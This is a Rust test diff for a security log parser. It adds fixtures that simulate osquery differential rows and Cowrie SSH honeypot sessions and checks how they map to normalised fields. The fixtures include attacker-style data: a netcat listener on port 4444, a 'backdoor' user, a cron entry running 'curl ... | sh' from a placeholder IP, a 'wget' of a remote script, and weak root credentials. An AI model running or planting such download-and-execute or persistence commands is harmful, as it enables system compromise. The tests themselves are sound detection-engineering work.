@@ -178,3 +178,94 @@ fn pack_errors_have_positions() {
     assert!(err.contains("unknown timestamp format"), "{err}");
     assert!(load_packs(&["builtin:nope".to_string()], &Resources::new(".")).is_err());
 }
+
+#[test]
+fn osquery_differential_rows_carry_their_difference() {
+    let row = |name: &str, action: &str, columns: &str| {
+        format!(
+            r#"{{"name":"pack_lab_{name}","hostIdentifier":"web-1","calendarTime":"Mon Jan  5 08:00:00 2026 UTC","unixTime":1767600000,"epoch":0,"counter":3,"numerics":false,"columns":{columns},"action":"{action}"}}"#
+        )
+    };
+    let lines = [
+        row(
+            "listening_ports",
+            "added",
+            r#"{"address":"0.0.0.0","port":"4444","pid":"2231","protocol":"6","path":"/tmp/.x/nc","name":"nc"}"#,
+        ),
+        row(
+            "listening_ports",
+            "removed",
+            r#"{"address":"0.0.0.0","port":"8080","pid":"100","protocol":"6","path":"/usr/bin/python3","name":"python3"}"#,
+        ),
+        row("users", "added", r#"{"username":"backdoor","uid":"1337","shell":"/bin/bash"}"#),
+        row(
+            "startup_items",
+            "added",
+            r#"{"name":"updater","path":"/etc/cron.d/updater","command":"curl -s http://198.51.100.7/u | sh"}"#,
+        ),
+        row(
+            "processes",
+            "snapshot",
+            r#"{"pid":"1","name":"init","path":"/sbin/init","cmdline":"/sbin/init","parent":"0"}"#,
+        ),
+        // Not osquery: an action osquery never writes.
+        row("users", "changed", r#"{"username":"x"}"#),
+    ];
+    let (e, q) = run(&lines.iter().map(String::as_str).collect::<Vec<_>>());
+    assert!(q.is_empty(), "{q:?}");
+    assert_eq!(e[0]["event.dataset"], "osquery.listening_ports");
+    assert_eq!(e[0]["event.module"], "osquery");
+    assert_eq!(e[0]["@timestamp"], "2026-01-05T08:00:00.000Z");
+    assert_eq!(e[0]["host.name"], "web-1");
+    assert_eq!(e[0]["destination.port"], 4444);
+    assert_eq!(e[0]["process.executable"], "/tmp/.x/nc");
+    assert_eq!(e[0]["event.type"], "creation");
+    assert_eq!(e[0]["ext"]["ward.diff"], "1");
+    assert_eq!(e[1]["ext"]["ward.diff"], "-1");
+    assert_eq!(e[1]["event.action"], "removed");
+    assert_eq!(e[2]["event.dataset"], "osquery.users");
+    assert_eq!(e[2]["user.name"], "backdoor");
+    assert_eq!(e[3]["event.dataset"], "osquery.autoruns");
+    assert_eq!(e[3]["process.command_line"], "curl -s http://198.51.100.7/u | sh");
+    assert_eq!(e[4]["event.dataset"], "osquery.processes");
+    assert!(e[4]["ext"].get("ward.diff").is_none(), "a snapshot row is no change");
+    assert_ne!(e[5]["event.module"], "osquery");
+}
+
+#[test]
+fn cowrie_sessions_logins_commands_and_downloads() {
+    let base = r#""sensor":"honeypot-1","src_ip":"203.0.113.50","src_port":51234,"dst_ip":"10.0.5.5","dst_port":22,"session":"a1b2c3d4e5f6","protocol":"ssh""#;
+    let lines = [
+        format!(
+            r#"{{"eventid":"cowrie.session.connect","timestamp":"2026-01-05T08:00:00.123456Z",{base},"message":"New connection"}}"#
+        ),
+        format!(
+            r#"{{"eventid":"cowrie.login.failed","timestamp":"2026-01-05T08:00:01.000000Z",{base},"username":"admin","password":"admin"}}"#
+        ),
+        format!(
+            r#"{{"eventid":"cowrie.login.success","timestamp":"2026-01-05T08:00:02.000000Z",{base},"username":"root","password":"123456"}}"#
+        ),
+        format!(
+            r#"{{"eventid":"cowrie.command.input","timestamp":"2026-01-05T08:00:03.000000Z",{base},"input":"wget http://198.51.100.7/x.sh"}}"#
+        ),
+        format!(
+            r#"{{"eventid":"cowrie.session.file_download","timestamp":"2026-01-05T08:00:04.000000Z",{base},"url":"http://198.51.100.7/x.sh","shasum":"ab12","outfile":"var/lib/cowrie/downloads/ab12"}}"#
+        ),
+        format!(
+            r#"{{"eventid":"cowrie.session.closed","timestamp":"2026-01-05T08:00:09.000000Z",{base},"duration":9.1}}"#
+        ),
+    ];
+    let (e, q) = run(&lines.iter().map(String::as_str).collect::<Vec<_>>());
+    assert!(q.is_empty(), "{q:?}");
+    assert!(e
+        .iter()
+        .all(|e| e["event.module"] == "cowrie" && e["host.name"] == "honeypot-1" && e["source.ip"] == "203.0.113.50"));
+    assert_eq!(e[0]["event.dataset"], "cowrie.session");
+    assert_eq!(e[0]["@timestamp"], "2026-01-05T08:00:00.123Z");
+    assert_eq!((&e[1]["event.outcome"], &e[1]["user.name"]), (&"failure".into(), &"admin".into()));
+    assert_eq!(e[2]["event.outcome"], "success");
+    assert_eq!(e[3]["process.command_line"], "wget http://198.51.100.7/x.sh");
+    assert_eq!(e[4]["url.full"], "http://198.51.100.7/x.sh");
+    assert_eq!(e[4]["event.dataset"], "cowrie.file");
+    assert_eq!(e[5]["ext"]["session"], "a1b2c3d4e5f6");
+}
